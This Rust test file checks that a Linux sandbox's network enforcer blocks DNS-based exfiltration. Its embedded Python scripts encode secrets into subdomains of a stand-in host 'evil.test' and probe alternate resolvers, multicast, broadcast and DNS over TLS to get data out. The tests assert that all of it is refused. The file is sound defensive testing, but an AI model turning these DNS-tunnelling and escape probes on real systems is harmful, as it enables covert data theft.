//! What a program asks for by name stays in the sandbox, but for names that are granted.
#![cfg(target_os = "linux")]
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing)]

use skillsandbox_enforcer::egress::{AttemptAction, AttemptEnd, AttemptVerdict, NetworkRule, RefusalReason};
use skillsandbox_enforcer::{PlanBuilder, RunOutcome};
use skillsandbox_network_tests::{
    DatagramSink, Reply, Resolver, Sink, attempts, echo, highest_resident, on_stage, outside, plan, python,
    reached, refused, resident, said,
};

fn granted(resolver: &Resolver) -> PlanBuilder {
    plan()
        .egress(NetworkRule::domain("api.weather.test").unwrap().ports([8080]))
        .egress(NetworkRule::domain("*.cdn.test").unwrap().ports([8080]))
        .resolver(resolver.address)
}

/// Questions by hand: any name, any kind, to anybody, over UDP and TCP.
const ASK: &str = "
def question(name, kind=1, number=0x1234):
    labels = b''.join(bytes([len(l)]) + l for l in name.encode().split(b'.') if l)
    return struct.pack('>HHHHHH', number, 0x100, 1, 0, 0, 0) + labels + b'\\0' + struct.pack('>HH', kind, 1)
def code(reply): return reply[3] & 15
def by_udp(name, to='9.9.53.1', kind=1, family=socket.AF_INET):
    u = socket.socket(family, socket.SOCK_DGRAM); u.settimeout(20)
    u.sendto(question(name, kind), (to, 53)); reply, source = u.recvfrom(4096)
    assert source[0] == to, source
    return code(reply)
def by_tcp(name, to='9.9.53.1', kind=1):
    s = dial(to, 53); q = question(name, kind); s.sendall(struct.pack('>H', len(q)) + q)
    return code(s.recv(4096)[2:])
";

fn lookups(outcome: &RunOutcome) -> usize {
    outcome.network.attempts.iter().filter(|attempt| attempt.action == AttemptAction::LookUp).count()
}

#[test]
fn row_093_encoded_subdomains_do_not_leave() {
    on_stage("row_093_encoded_subdomains_do_not_leave", || {
        let resolver = Resolver::new("9.9.53.1", |_, _| Reply::one("9.9.0.1"));
        let _server = echo("9.9.0.1:8080");
        let before = resident();
        let script = format!(
            "{ASK}
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(20); u.connect(('9.9.53.1', 53))
def ask(name):
    u.send(question(name)); return code(u.recv(4096))
import hashlib
codes = {{}}
for n in range(10000):
    secret = hashlib.sha256(b'%d' % n).hexdigest()
    c = ask(secret[:32] + '.' + secret[32:] + '.evil.test'); codes[c] = codes.get(c, 0) + 1
print(codes)"
        );
        let outcome = python(granted(&resolver), &script);
        assert_eq!(said(&outcome), "{3: 10000}\n");
        assert_eq!(resolver.asked(), Vec::<String>::new(), "nothing left");
        assert!(lookups(&outcome) <= 1024, "{}", lookups(&outcome));
        let told: u64 = outcome.network.attempts.iter().map(|attempt| attempt.count).sum();
        assert_eq!(told + outcome.network.unrecorded, 10_000, "and none is forgotten");
        assert!(highest_resident() < before + (32 << 20), "{} after {before}", highest_resident());
        // The control: the resolver counts what reaches it.
        let _ = outside(&format!("{ASK}by_udp('secret.evil.test')"));
        assert_eq!(resolver.asked(), ["secret.evil.test 1"]);
    });
}

#[test]
fn row_093_below_a_granted_wildcard_little_leaves() {
    on_stage("row_093_below_a_granted_wildcard_little_leaves", || {
        let resolver = Resolver::new("9.9.53.1", |_, _| Reply::one("9.9.0.1"));
        let server = echo("9.9.0.1:8080");
        let script = format!(
            "{ASK}
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(20); u.connect(('9.9.53.1', 53))
def ask(name):
    u.send(question(name)); return u.recv(4096)
told, refused = [], 0
for n in range(10000):
    reply = ask('n%d.cdn.test' % n)
    if code(reply): refused += 1
    else: told.append(socket.inet_ntoa(reply[-4:]))
print(len(told), refused)
# Only who connects makes a name leave.
for address in told: s = dial(address, 8080); s.send(b'x'); s.recv(1); s.close()
s = dial('api.weather.test', 8080); s.send(b'hello'); print(s.recv(10))"
        );
        let outcome = python(granted(&resolver), &script);
        let said = said(&outcome);
        let (first, last) = said.split_once('\n').unwrap();
        let (told, refused_names) = first.split_once(' ').unwrap();
        let (told, refused_names): (usize, usize) = (told.parse().unwrap(), refused_names.parse().unwrap());
        assert_eq!(told + refused_names, 10_000);
        assert!(told <= 64, "{told}");
        assert_eq!(last, "b'hello'\n", "what is granted by name is none of these\n{}", attempts(&outcome));
        let mut asked = resolver.asked();
        asked.sort_unstable();
        asked.dedup();
        assert!(asked.len() <= 2 * (64 + 1), "{}", asked.len());
        assert_eq!(server.accepted(), told + 1);
        assert!(outcome.network.attempts.len() <= 1024);
        let reasons: Vec<_> = refused(&outcome).map(|attempt| &attempt.verdict).collect();
        assert!(reasons.contains(&&AttemptVerdict::Refused(RefusalReason::TooManyNames)), "{reasons:?}");
    });
}

#[test]
fn row_093_port_53_of_any_address_is_the_sandbox_itself() {
    on_stage("row_093_port_53_of_any_address_is_the_sandbox_itself", || {
        let resolver = Resolver::new("9.9.53.1", |_, _| Reply::one("9.9.0.1"));
        let others = [
            Resolver::new("9.9.53.2", |_, _| Reply::one("9.9.0.1")),
            Resolver::new("10.0.0.53", |_, _| Reply::one("9.9.0.1")),
            Resolver::new("127.0.0.53", |_, _| Reply::one("9.9.0.1")),
            Resolver::new("2600:9::53", |_, _| Reply::one("9.9.0.1")),
        ];
        let script = format!(
            "{ASK}
hosts = ('9.9.53.1', '9.9.53.2', '10.0.0.53', '127.0.0.53')
for host in hosts: print(host, by_udp('secret.evil.test', host), by_tcp('secret.evil.test', host), by_udp('api.weather.test', host), by_tcp('api.weather.test', host))
print(by_udp('secret.evil.test', '2600:9::53', family=socket.AF_INET6), by_tcp('secret.evil.test', '2600:9::53'), by_tcp('api.weather.test', '2600:9::53'))
# Every kind of record, and what is no question at all.
for kind in (2, 5, 6, 12, 15, 16, 28, 33, 64, 65, 252, 255, 257, 65535): print(by_udp('secret.evil.test', kind=kind), by_tcp('secret.api.weather.test', kind=kind), end=' ')
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(.2)
for junk in (b'', b'x', b'secret' * 100, b'\\0' * 12, question('a' * 63 + '.evil.test')[:-5], os.urandom(1400), os.urandom(60000)):
    u.sendto(junk, ('9.9.53.2', 53)); tried(u.recv, 4096)
s = dial('9.9.53.2', 53); s.sendall(b'GET /secret HTTP/1.1\\r\\n\\r\\n' * 100); s.settimeout(.2); tried(s.recv, 100)
print(by_udp('api.weather.test'))"
        );
        let outcome = python(granted(&resolver), &script);
        let said = said(&outcome);
        for host in ["9.9.53.1", "9.9.53.2", "10.0.0.53", "127.0.0.53"] {
            assert!(said.contains(&format!("{host} 3 3 0 0\n")), "{said}");
        }
        assert!(said.contains("\n3 3 0\n"), "{said}");
        assert!(said.ends_with(" 0\n") || said.ends_with("\n0\n"), "it still answers: {said}");
        assert!(resolver.asked().is_empty(), "nobody connected: {:?}", resolver.asked());
        for other in &others {
            assert_eq!(other.asked(), Vec::<String>::new(), "{}", other.address);
        }
        assert!(attempts(&outcome).contains("secret.evil.test"), "{}", attempts(&outcome));
        // The control.
        let _ = outside(&format!(
            "{ASK}[by_udp('x.test', h) for h in ('9.9.53.2', '10.0.0.53', '127.0.0.53')]\nby_udp('x.test', '2600:9::53', family=socket.AF_INET6)"
        ));
        for other in &others {
            assert_eq!(other.asked().len(), 1, "{}", other.address);
        }
    });
}

#[test]
fn row_093_no_other_way_to_speak_to_a_resolver() {
    on_stage("row_093_no_other_way_to_speak_to_a_resolver", || {
        let resolver = Resolver::new("9.9.53.1", |_, _| Reply::one("9.9.0.1"));
        // DNS over TLS, multicast DNS, LLMNR, NetBIOS, and a resolver on a port of its own.
        let sinks = [853, 5353, 5355, 5300].map(|port| {
            let at = format!("9.9.53.1:{port}");
            (Sink::new(&at), DatagramSink::new(&at))
        });
        let multicast = DatagramSink::new("0.0.0.0:5354");
        let script = format!(
            "{ASK}
for port in (853, 5353, 5355, 5300):
    print(tried(dial, '9.9.53.1', port), end=' ')
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); tried(u.sendto, question('secret.evil.test'), ('9.9.53.1', port))
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for to in ('224.0.0.251', '255.255.255.255', '9.9.255.255'): tried(u.sendto, question('secret.evil.test'), (to, 5354))
u.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1); tried(u.sendto, question('secret.evil.test'), ('255.255.255.255', 5354))"
        );
        let outcome = python(granted(&resolver), &script);
        assert_eq!(said(&outcome), "ECONNREFUSED ECONNREFUSED ECONNREFUSED ECONNREFUSED ");
        for (tcp, udp) in &sinks {
            assert_eq!((tcp.strangers(), udp.strangers()), (0, 0));
        }
        assert_eq!(multicast.strangers(), 0);
        assert!(resolver.asked().is_empty());
    });
}

#[test]
fn a_search_list_asks_for_names_that_do_not_exist_and_then_finds_the_one_that_does() {
    on_stage("a_search_list_asks_for_names_that_do_not_exist_and_then_finds_the_one_that_does", || {
        let resolver = Resolver::new("9.9.53.1", |_, _| Reply::one("9.9.0.1"));
        let _server = echo("9.9.0.1:8080");
        let script = "
os.environ['LOCALDOMAIN'] = 'corp.test other.test'; os.environ['RES_OPTIONS'] = 'ndots:5'
import subprocess
print(subprocess.run([sys.executable, '-c', '''
import socket
s = socket.create_connection((\"api.weather.test\", 8080)); s.send(b\"hello\"); print(s.recv(10))
try: socket.getaddrinfo(\"api\", 8080)
except socket.gaierror as e: print(e.errno)
'''], capture_output=True, text=True).stdout)";
        let outcome = python(granted(&resolver), script);
        assert_eq!(said(&outcome).trim(), "b'hello'\n-2", "{}", attempts(&outcome));
        let asked = resolver.asked();
        assert!(asked.iter().all(|name| name.starts_with("api.weather.test ")), "{asked:?}");
    });
}

#[test]
fn a_resolver_that_lies_or_is_silent_is_an_error_and_no_more() {
    on_stage("a_resolver_that_lies_or_is_silent_is_an_error_and_no_more", || {
        let server = echo("9.9.0.1:8080");
        let sink = Sink::new("9.9.66.6:8080");
        // An answer to another question, with the number of ours: 66.6 for evil.test.
        let other: Vec<u8> = [
            &[0x81, 0x80, 0, 1, 0, 1, 0, 0, 0, 0, 4][..],
            b"evil\x04test\0\0\x01\0\x01\xc0\x0c\0\x01\0\x01\0\0\0\0\0\x04\x09\x09\x42\x06",
        ]
        .concat();
        let loops: Vec<u8> = [&[0x81, 0x80, 0, 1, 0, 1, 0, 0, 0, 0, 0xc0, 12][..], &[0, 1, 0, 1]].concat();
        let raw = |bytes: &[u8], right_number| Reply::Raw { bytes: bytes.to_vec(), right_number };
        let replies = [
            ("garbage", raw(&[0xff; 300], true)),
            ("short", raw(&[], true)),
            ("loop", raw(&loops, true)),
            ("other", raw(&other, true)),
            ("number", raw(&other, false)),
            ("none", Reply::NoSuchName),
            ("empty", Reply::Addresses(Vec::new())),
        ];
        let names: Vec<_> = replies.iter().map(|(name, _)| format!("{name}.weather.test")).collect();
        let resolver = Resolver::new("9.9.53.1", move |name, _| {
            let first = name.split('.').next().unwrap();
            match first {
                "tcp" => Reply::OverTcp(vec!["9.9.0.1".parse().unwrap()]),
                "silent" => Reply::Silence,
                "slow" => {
                    std::thread::sleep(std::time::Duration::from_millis(600));
                    Reply::one("9.9.0.1")
                }
                _ => replies.iter().find(|(known, _)| *known == first).unwrap().1.clone(),
            }
        });
        let mut plan = plan().resolver(resolver.address);
        for name in names.iter().map(String::as_str).chain([
            "tcp.weather.test",
            "silent.weather.test",
            "slow.weather.test",
        ]) {
            plan = plan.egress(NetworkRule::domain(name).unwrap().ports([8080]));
        }
        // All at once: those that are never answered take as long as one of them.
        let script = "
results = {}
def hello(name):
    def go():
        s = dial(name, 8080); s.send(b'hello'); return s.recv(10)
    results[name] = tried(go)
names = ['%s.weather.test' % n for n in ('garbage', 'short', 'loop', 'other', 'number', 'none', 'empty', 'silent', 'tcp', 'slow')]
ts = [threading.Thread(target=hello, args=(n,)) for n in names]
[t.start() for t in ts]; [t.join() for t in ts]
for n in names: print(n.split('.')[0], results[n])";
        let outcome = python(plan, script);
        let said = said(&outcome);
        for line in said.lines() {
            let (name, result) = line.split_once(' ').unwrap();
            if matches!(name, "tcp" | "slow") {
                assert_eq!(result, "b'hello'", "{said}");
            } else {
                assert!(result.starts_with("ECONN"), "{said}");
            }
        }
        assert_eq!(said.lines().count(), 10);
        assert_eq!((server.accepted(), sink.strangers()), (2, 0));
        assert_eq!(reached(&outcome).count(), 2);
        let unresolved = |name: &str| {
            outcome.network.attempts.iter().any(|attempt| {
                attempt.name.as_deref() == Some(name)
                    && matches!(attempt.end, Some(AttemptEnd::NotResolved(_)))
            })
        };
        assert!(names.iter().all(|name| unresolved(name)), "{}", attempts(&outcome));
        assert!(unresolved("silent.weather.test"));
    });
}
